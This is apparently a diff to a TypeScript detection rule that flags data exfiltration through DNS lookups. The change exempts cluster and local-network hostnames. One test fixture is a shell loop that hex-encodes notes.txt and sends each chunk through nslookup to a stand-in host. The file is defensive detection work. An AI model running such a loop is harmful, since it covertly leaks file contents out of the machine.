@@ -1,5 +1,5 @@
 /** EX-04: A DNS lookup sends data as part of the name that is looked up. */
-import { inFile } from '../../engine/example.ts';
+import { fenced, inFile } from '../../engine/example.ts';
 import { nameVariables } from '../../vocabulary/exfiltration/ex-04-data-in-dns.ts';
 import {
   blank,
@@ -27,6 +27,9 @@ import { keysInNames } from './ex-02-published-secrets.ts';
 
 /** Where a command may begin in a value of settings. */
 const commandStart = /(?:^|["'`;&|(\n]|\\n|\b(?:do|then|sudo|run:))\s{0,8}$/;
+
+/** Names that only a cluster or a local network answers. */
+const inside = /\.(?:cluster\.local|svc|consul|internal|home\.arpa|lan|local)\.?$/i;
 
 /** A message whose quotation is open up to here, without a command of its own in it. */
 const printed = new RegExp(
@@ -88,13 +91,17 @@ export const dataInDns: PatternRule = {
       weigh: ({ match, region, severity }) => {
         const before = match.input.slice(0, match.index);
         const isSetting = region.kind === 'config' && !commandStart.test(before.slice(-24));
-        return isSetting || printed.test(before) ? null : severity;
+        const rest = match.input.slice(match.index + match[0].length).split(/[\s"'`;|)]/, 1)[0] ?? '';
+        const isInside = inside.test(match[0] + rest);
+        return isSetting || isInside || printed.test(before) ? null : severity;
       },
       catches: [inFile('scripts/a.sh', 'for c in $(xxd -p notes.txt); do nslookup "$c.t.invalid"; done')],
       spares: [
         inFile('scripts/a.js', 'console.log(`Host names: ${found.names.join(", ")}`);'),
         inFile('scripts/a.sh', 'echo "The host $unit.internal.net answers"'),
         inFile('scripts/a.sh', 'nslookup "$HOST.example.com"', 'dig example.com'),
+        inFile('scripts/a.sh', 'nslookup $1.default.svc.cluster.local', 'dig +short "$svc.apps.example.com"'),
+        fenced('', 'nslookup $ARGUMENTS.hostname.apps.example.com'),
       ],
     }),
     row('a variable as part of the name, in a program', {
